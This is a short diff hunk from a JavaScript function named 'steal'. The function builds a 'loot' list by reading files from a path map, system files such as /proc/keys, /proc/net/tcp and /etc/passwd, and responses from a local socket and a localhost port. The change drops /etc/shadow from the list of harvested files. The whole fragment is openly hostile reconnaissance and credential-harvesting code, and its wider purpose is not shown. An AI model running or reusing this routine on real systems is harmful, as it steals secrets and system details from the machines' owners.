@@ -86,7 +86,7 @@ async function steal() {
   for (const file of map.paths) {
     loot.push(text(file), attempt(() => fs.readdirSync(path.dirname(file)).join(), ''));
   }
-  for (const file of ['/proc/net/unix', '/proc/net/tcp', '/proc/mounts', '/proc/keys', '/etc/passwd', '/etc/shadow']) loot.push(text(file));
+  for (const file of ['/proc/net/unix', '/proc/net/tcp', '/proc/mounts', '/proc/keys', '/etc/passwd']) loot.push(text(file));
   loot.push(await ask({ path: map.socket }), await ask({ host: '127.0.0.1', port: map.port }));
   return loot.join('\n');
 }
